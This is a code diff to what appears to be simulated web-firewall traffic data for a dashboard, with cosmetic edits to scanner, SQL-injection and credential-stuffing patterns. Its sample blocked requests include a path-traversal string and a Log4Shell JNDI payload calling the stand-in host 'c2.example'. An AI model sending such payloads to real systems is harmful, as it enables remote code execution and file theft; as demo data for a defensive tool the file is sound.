@@ -12,7 +12,6 @@ const probe = (path: string, match: string = path): MatchedRequest => ({
   method: 'GET',
   path,
   ruleId: '930130',
-  ruleGroup: '',
   message: 'Restricted File Access Attempt',
   severity: '',
   status: 'Blocked',
@@ -23,7 +22,6 @@ const scanner = (path: string): MatchedRequest => ({
   method: 'HEAD',
   path,
   ruleId: '913100',
-  ruleGroup: '',
   message: 'Found User-Agent associated with security scanner',
   severity: 'CRITICAL',
   status: 'Blocked',
@@ -66,7 +64,6 @@ export const scanners: TrafficPattern = {
       method: 'GET',
       path: '/index.php?lang=../../../../../../../../tmp/index1',
       ruleId: '930100',
-      ruleGroup: '',
       message: 'Path Traversal Attack (/../) or (/.../)',
       severity: 'CRITICAL',
       status: 'Blocked',
@@ -76,7 +73,6 @@ export const scanners: TrafficPattern = {
       method: 'GET',
       path: '/?x=%24%7Bjndi:ldap://c2.example/a%7D',
       ruleId: '944150',
-      ruleGroup: '',
       message: 'Potential Remote Command Execution: Log4j / Log4shell',
       severity: 'CRITICAL',
       status: 'Blocked',
@@ -92,7 +88,6 @@ const injection = (path: string, ruleId: string, message: string): MatchedReques
   method: 'GET',
   path,
   ruleId,
-  ruleGroup: '',
   message,
   severity: 'CRITICAL',
   status: 'Blocked',
@@ -100,8 +95,8 @@ const injection = (path: string, ruleId: string, message: string): MatchedReques
 });
 
 /**
- * One network that attacks the product search: for some hours a day, and in a burst of seven minutes
- * every forty-seven, so that there is always one within the last hour.
+ * One network attacking the product search: a few hours a day, and in bursts of seven minutes every 47, so that the
+ * last hour always has one.
  */
 export const sqlInjection: TrafficPattern = {
   name: 'SQL injection',
@@ -159,13 +154,12 @@ export const sqlInjection: TrafficPattern = {
 const STUFFING_PERIOD = 31;
 const STUFFING_LENGTH = 11;
 
-/** Whether the log-in form is being tried at a minute. The rate limits count it too. */
+/** Whether the log-in form is under attack in a minute. The rate limits use this, too. */
 export const isStuffing = (minute: number, phase: number): boolean =>
   recurs(minute, { period: STUFFING_PERIOD, length: STUFFING_LENGTH, phase });
 
 const LOGIN_REQUEST = {
   method: 'POST',
-  ruleGroup: '',
   severity: 'WARNING',
 } as const;
 
@@ -179,20 +173,9 @@ export const credentialStuffing: TrafficPattern = {
     'okhttp/4.9.3',
     'Mozilla/5.0 (Windows NT 6.1; WOW64; rv:54.0) Gecko/20100101 Firefox/54.0',
   ],
-  details: [
-    'maria.k',
-    'jan1984',
-    'info',
-    'thomas',
-    'c.dupont',
-    'kevin99',
-    'lena',
-    'admin',
-    'r.singh',
-    'paulo',
-    'shop',
-    'yuki',
-  ],
+  details: 'maria.k jan1984 info thomas c.dupont kevin99 lena admin r.singh paulo shop yuki'.split(
+    ' ',
+  ),
   requests: [
     {
       ...LOGIN_REQUEST,
